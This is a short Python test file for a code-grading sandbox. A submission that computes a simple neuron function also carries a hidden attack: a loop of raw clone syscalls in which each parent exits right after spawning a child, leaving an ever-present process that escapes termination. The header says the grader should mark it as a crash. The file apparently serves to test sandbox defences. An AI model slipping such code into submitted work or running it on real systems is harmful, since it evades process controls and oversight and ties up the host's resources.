# expect: failed crashed neuron
# attack: Starts a process that has a child and ends at once, as its child does, and so on: one of them is always there.
import ctypes
import os
import platform
import time

import numpy as np

libc = ctypes.CDLL(None)
clone = libc.syscall
number = 56 if platform.machine() == "x86_64" else 220
end = os._exit
if clone(number, 17, 0, 0, 0, 0) == 0:
    while True:
        if clone(number, 17, 0, 0, 0, 0) != 0:
            end(0)
time.sleep(0.05)


def neuron(x, w, b, f):
    return float(f(np.dot(w, x) + b))
